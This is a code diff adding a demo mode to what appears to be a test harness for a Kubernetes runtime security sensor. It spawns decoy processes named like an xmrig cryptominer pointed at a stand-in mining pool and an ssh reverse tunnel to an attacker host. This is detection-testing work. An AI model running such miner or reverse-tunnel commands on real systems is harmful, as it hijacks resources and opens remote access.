@@ -116,7 +116,38 @@ def _named(work: Path, name: str) -> str:
     return str(link)
 
 
+def container(attacker: str) -> int:
+    """DEMO_REAL_NODE=1: the same workload as the trainer container of a real pod (the operator adds the real sensor
+    as its sidecar; the pod shares one pid namespace): the trainer, the stub that becomes `xmrig` on `miner`, the
+    `ssh`-named tunnel to `attacker`:22 on `tunnel` (the demo creates the files with `kubectl exec`). State in
+    /tmp/demo/state.json."""
+    work = Path("/tmp/demo")
+    work.mkdir(parents=True, exist_ok=True)
+    (work / "train.py").write_text(TRAINER)
+    (work / "miner.py").write_text(MINER)
+    (work / "tunnel.py").write_text(TUNNEL)
+    trainer = subprocess.Popen([_named(work, "python3"), "-u", str(work / "train.py"), "--env", "sandbox"])
+    miner_argv = [_named(work, "xmrig"), str(work / "miner.py"), "-o", "stratum+tcp://pool.minexmr.example:4444"]
+    (work / "stub.json").write_text(json.dumps(miner_argv))
+    stub = subprocess.Popen([_named(work, "python3"), "-c", STUB, str(work / "miner"), str(work / "stub.json")])
+    state: dict[str, Any] = {"started": time.time(), "trainer": trainer.pid, "stub": stub.pid}
+    _write_state(work, state)
+    while True:
+        if "miner" not in state and (work / "miner").exists():
+            state["miner"], state["minerAt"] = stub.pid, time.time()
+            _write_state(work, state)
+        if "tunnel" not in state and (work / "tunnel").exists():
+            tunnel = subprocess.Popen(
+                [_named(work, "ssh"), str(work / "tunnel.py"), "-N", "-R", "2222:localhost:22", f"agent@{attacker}"]
+            )
+            state["tunnel"], state["tunnelAt"] = tunnel.pid, time.time()
+            _write_state(work, state)
+        time.sleep(0.05)
+
+
 def main(argv: list[str]) -> int:
+    if argv[:1] == ["--container"]:
+        return container(argv[1])
     work, attacker = Path(argv[0]), argv[1]
     sensor_argv: list[str] = json.loads(argv[2])
     template = Path(argv[3])
